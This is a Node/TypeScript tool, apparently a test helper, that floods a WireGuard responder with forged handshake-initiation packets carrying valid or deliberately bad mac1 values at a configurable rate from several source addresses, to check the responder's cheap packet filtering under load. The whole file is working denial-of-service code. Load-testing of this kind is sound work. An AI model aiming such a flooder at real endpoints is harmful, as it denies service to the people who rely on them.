// A handshake flood, as an attacker who knows a member's public key sends it (every member knows
// every other member's key): WireGuard initiations (type 1, 148 bytes) with random sender index,
// ephemeral, static and timestamp fields and a VALID mac1, so they pass the responder's cheap check;
// mac2 is zero (the flooder never takes the cookies it is sent). With `badMac1` the mac1 is random
// instead: the cheap check must drop those.
//
// Usage: node flooder.js '{"target":"192.168.242.2:51820","targetPub":"<base64>","rate":20000,
//          "sources":["192.168.242.10","192.168.242.11"],"seconds":10}'
// `sources` are local addresses to send from (one socket each, round robin: many sources are
// addresses the test gave this namespace); default one socket on the wildcard address. Sends
// rate/100 datagrams every 10 ms. Prints "ready" once bound; on SIGTERM/SIGINT or after `seconds`,
// one JSON line {sent, replies: {messageType: count}, seconds} and exits. IPv4 only.
import { createSocket, type Socket } from 'node:dgram';
import { randomBytes } from 'node:crypto';
import { blake2s } from '@noble/hashes/blake2.js';

interface Config {
  target: string;
  targetPub: string;
  rate: number;
  sources?: string[];
  seconds?: number;
  badMac1?: boolean;
}
const cfg = JSON.parse(process.argv[2]) as Config;
const colon = cfg.target.lastIndexOf(':');
const host = cfg.target.slice(0, colon);
const port = Number(cfg.target.slice(colon + 1));

// mac1 = MAC(HASH("mac1----" || responder's public key), the first 116 bytes).
const mac1Key = blake2s(Buffer.concat([Buffer.from('mac1----'), Buffer.from(cfg.targetPub, 'base64')]));
const POOL = 4096; // distinct datagrams, made up front so sending costs no crypto
const pool: Buffer[] = [];
for (let i = 0; i < POOL; i++) {
  const m = randomBytes(148);
  m.writeUInt32LE(1, 0);
  if (!cfg.badMac1) Buffer.from(blake2s(m.subarray(0, 116), { key: mac1Key, dkLen: 16 })).copy(m, 116);
  m.fill(0, 132);
  pool.push(m);
}

const replies: Record<number, number> = {};
const sockets: Socket[] = (cfg.sources?.length ? cfg.sources : ['0.0.0.0']).map(() => createSocket('udp4'));
for (const s of sockets) {
  s.on('error', () => {}); // ICMP unreachable and the like: a flooder does not care
  s.on('message', (msg) => (replies[msg[0]] = (replies[msg[0]] ?? 0) + 1));
}

let sent = 0;
let next = 0;
const started = Date.now();
function finish(): never {
  console.log(JSON.stringify({ sent, replies, seconds: (Date.now() - started) / 1000 }));
  process.exit(0);
}
process.once('SIGTERM', finish);
process.once('SIGINT', finish);

function flood(): void {
  const perTick = Math.max(1, Math.round(cfg.rate / 100));
  let due = Date.now();
  const tick = (): void => {
    if (cfg.seconds !== undefined && Date.now() - started >= cfg.seconds * 1000) finish();
    // Catch up when a tick came late, so the rate holds on a busy machine (up to a second's worth).
    const now = Date.now();
    const ticks = Math.min(100, Math.max(1, Math.floor((now - due) / 10) + 1));
    for (let i = 0; i < perTick * ticks; i++) {
      sockets[sent % sockets.length].send(pool[next], port, host);
      next = (next + 1) % POOL;
      sent++;
    }
    due += ticks * 10;
    setTimeout(tick, Math.max(0, due - Date.now()));
  };
  tick();
}

let pending = sockets.length;
sockets.forEach((s, i) => s.bind(0, cfg.sources?.[i] ?? '0.0.0.0', () => {
  if (--pending === 0) {
    console.log('ready');
    flood();
  }
}));
